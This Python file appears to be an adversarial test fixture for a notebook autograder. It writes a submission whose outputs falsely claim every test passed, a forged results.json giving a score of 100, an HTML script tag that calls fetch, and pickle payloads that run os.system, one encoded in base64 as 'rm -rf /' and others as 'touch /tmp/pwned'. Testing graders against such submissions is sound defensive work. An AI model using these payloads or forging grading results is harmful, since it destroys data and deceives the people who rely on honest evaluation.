"""Submits saved outputs that say every check passed, with scripts, pickles and otter's own result records in them."""

import json

from autograder.proof.arena.cells import notebook

CELLS = []


def build(folder, cells):
    found = json.loads(notebook(cells))
    for cell in found["cells"]:
        cell["execution_count"] = 1
        cell["outputs"] = [
            {"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"text/plain": "All tests passed! 100/100",
             "text/html": "<script>fetch('http://127.0.0.1')</script>", "application/x-pickle": "gASVJAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAlybSAtcmYgL5SFlFKULg=="}},
            {"output_type": "stream", "name": "stdout", "text": ["q5 results: All test cases passed!"] * 100},
        ]  # fmt: skip
    (folder / "vae.ipynb").write_text(json.dumps(found))
    (folder / ".OTTER_LOG").write_bytes(b"\x80\x04cos\nsystem\n(S'touch /tmp/pwned'\ntR.")
    (folder / "results.pkl").write_bytes(b"\x80\x04cos\nsystem\n(S'touch /tmp/pwned'\ntR.")
    (folder / "results.json").write_text('{"score": 100}')
